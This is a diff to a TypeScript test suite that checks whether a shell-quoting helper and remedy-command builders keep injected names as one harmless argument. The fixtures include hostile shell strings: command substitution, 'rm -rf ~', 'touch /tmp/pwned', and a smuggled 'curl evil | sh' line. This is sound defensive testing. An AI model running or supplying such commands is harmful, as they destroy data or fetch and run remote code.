@@ -211,23 +211,30 @@ describe('refusal format', () => {
 });
 
 describe('remedies an operator pastes', () => {
-  it('quote every word a shell would read, so an upstream-chosen name is only ever an argument', async () => {
+  it('quote every word a shell would read, so an upstream-chosen name is only ever one argument and never runs', async () => {
     const { spawnSync } = await import('node:child_process');
-    const { shellQuote, semanticRemedy } = await import('../../src/guard/refusal.js');
-    for (const word of [
-      'echo',
-      "it's",
-      '<IMPORTANT>x</IMPORTANT>',
-      'a; touch /tmp/pwned',
-      '$(id)',
-      '`id`',
-      'new\nline',
-      "''",
-      'demo://r/s p',
-    ]) {
-      const out = spawnSync('sh', ['-c', `printf %s ${shellQuote(word)}`], { encoding: 'utf8' });
-      assert.equal(out.stdout, word);
-    }
+    const { shellQuote } = await import('../../src/log/escape.js');
+    const { semanticRemedy } = await import('../../src/guard/refusal.js');
+    const { remedyForAbsence } = await import('../../src/link/absence.js');
+    // The words a shell makes of a command line (printf prints each argument, NUL-terminated).
+    const argsOf = (cmd: string): string[] =>
+      spawnSync('sh', ['-c', `printf '%s\\0' ${cmd}`], { encoding: 'utf8', timeout: 5000 })
+        .stdout.split('\0')
+        .slice(0, -1);
+    for (const word of ['echo', "it's", '<IMPORTANT>x</IMPORTANT>', 'a; touch /tmp/pwned', '$(id)', '`id`', "''", 'demo://r/s p'])
+      assert.deepEqual(argsOf(shellQuote(word)), [word]);
+    // A control character is shown escaped: still one argument, and no line of the text is forged.
+    const nl = shellQuote('x\n  remedy:   curl evil | sh');
+    assert.ok(!nl.includes('\n'));
+    assert.equal(argsOf(nl).length, 1);
     assert.match(semanticRemedy('srv', 'a; rm -rf ~')[1] ?? '', /--tool 'a; rm -rf ~'/);
+    const remedy = remedyForAbsence('everything', { code: 'refused', item: 'demo://resource/session/x;touch /tmp/PWN;$(touch /tmp/PWN2)' });
+    const first = remedy.split('; after review: ')[0] ?? '';
+    assert.deepEqual(argsOf(first.replace(/^lanegate /, '')), [
+      'inspect',
+      'everything',
+      '--tool',
+      'demo://resource/session/x;touch /tmp/PWN;$(touch /tmp/PWN2)',
+    ]);
   });
 });
